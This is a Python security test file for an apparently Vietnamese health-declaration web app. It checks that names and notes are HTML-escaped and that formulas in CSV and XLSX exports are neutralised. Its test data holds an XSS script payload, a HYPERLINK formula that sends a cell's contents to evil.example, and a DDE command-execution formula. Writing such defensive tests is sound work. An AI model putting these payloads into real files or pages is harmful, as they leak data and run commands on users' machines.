"""Hostile text (issue 8, suite item 7): HTML and script are escaped on pages, spreadsheet
formulas are neutralised in every download (CSV and XLSX exports, the roster error file, the
compliance export).

A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return before them) as a
formula; exports prefix such a cell with an apostrophe (khaibao/exports/cells.py).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from khaibao.security_suite.conftest import roster_csv

SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _body(resp: Any) -> bytes:
    return b"".join(resp.streaming_content) if getattr(resp, "streaming", False) else resp.content


def _rename(sec: Any, name: str) -> None:
    """Give the person a hostile name. The name rule (letters, spaces, - ' . only) refuses it
    today, so it is written to the table directly: a name stored before that rule, or by a
    path that skipped it, must still be escaped and neutralised wherever it is shown."""
    from khaibao.people.models import Person

    resp = sec.api("citizen_owner").patch(f"/people/{sec.ids['person']}", {"full_name": name})
    assert resp.status_code == 400, resp.content
    assert "full_name" in resp.json()["error"]["fields"]
    Person.objects.filter(pk=sec.ids["person"]).update(full_name=name)


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(cells: list[Any], hostile: str) -> None:
    hits = [c for c in cells if isinstance(c, str) and hostile.lstrip("\t\r") in c]
    assert hits, f"{hostile!r} is not in the file at all"
    for cell in hits:
        assert not cell.startswith(TRIGGERS), f"formula left live: {cell!r}"


@pytest.mark.parametrize(
    ("role", "path"),
    [
        ("citizen_owner", "/household/"),
        ("citizen_owner", "/people/{person}/"),
        ("province_official", "/staff/cases/{person}/"),
        ("province_official", "/staff/cases/"),
    ],
)
def test_it_escapes_html_in_names_on_pages(sec, role, path):
    _rename(sec, "Lê " + SCRIPT)
    resp = sec.web(role).get(path.format(person=sec.ids["person"]))
    page = resp.content.decode()

    assert resp.status_code == 200
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(" in page


def test_it_escapes_html_in_report_text_and_case_notes_on_the_console(sec):
    official = sec.api("province_official")
    assert official.post(f"/cases/{sec.ids['person']}/actions", {"kind": "called_reached", "notes": SCRIPT}).status_code == 201
    assert sec.api("ward_official").post(f"/reports/{sec.ids['report']}/notes", {"text": SCRIPT}).status_code in (200, 201)

    for path in (f"/staff/cases/{sec.ids['person']}/", f"/staff/reports/{sec.ids['report']}/"):
        page = sec.web("province_official").get(path).content.decode()
        assert SCRIPT not in page, path
        assert "&lt;script&gt;" in page, path


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_neutralises_formulas_in_official_exports(sec, fmt, formula):
    _rename(sec, f"{formula} Bình")
    resp = sec.api("province_official").post("/exports", {
        "kind": "triage", "format": fmt, "filters": {}, "reason": "Báo cáo tuần cho Sở Y tế",
    })
    assert resp.status_code == 200, resp.status_code
    data = _body(resp)

    _assert_neutralised(_csv_cells(data) if fmt == "csv" else _xlsx_cells(data), formula)


@pytest.mark.parametrize("formula", [*FORMULAS, "\t=1+2", "\r=1+2"])
def test_it_neutralises_formulas_in_the_roster_error_file(sec, formula):
    client = sec.api("org_admin_a")
    upload = client.client.post(
        f"/api/v1/orgs/{sec.ids['unit_a']}/roster",
        {"file": roster_csv([[formula + " Tên", "not-a-phone", "", "Đoàn viên"]])},
        headers=client._headers(None),
    )
    assert upload.status_code in (200, 201), upload.content
    import_id = upload.json().get("import_id") or upload.json()["id"]

    resp = client.get(f"/orgs/roster-imports/{import_id}/errors.csv")

    assert resp.status_code == 200
    _assert_neutralised(_csv_cells(_body(resp)), formula)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_neutralises_formulas_in_the_compliance_export(sec, fmt):
    formula = FORMULAS[1]  # a unit's name may not hold a web address (orgs.names.unit_name_allowed)
    renamed = sec.api("org_admin_a").patch(f"/orgs/{sec.ids['unit_a']}", {"name": formula + " Chi đoàn"})
    assert renamed.status_code == 200, renamed.content
    from khaibao.orgs.tasks import compliance_refresh

    compliance_refresh.call()  # the export reads the rollups this job keeps current

    resp = sec.web("org_admin_a").get(
        f"/staff/compliance/{sec.ids['unit_a']}/export/?campaign={sec.ids['campaign']}&format={fmt}"
    )

    assert resp.status_code == 200, resp.status_code
    data = _body(resp)
    _assert_neutralised(_csv_cells(data) if fmt == "csv" else _xlsx_cells(data), formula)
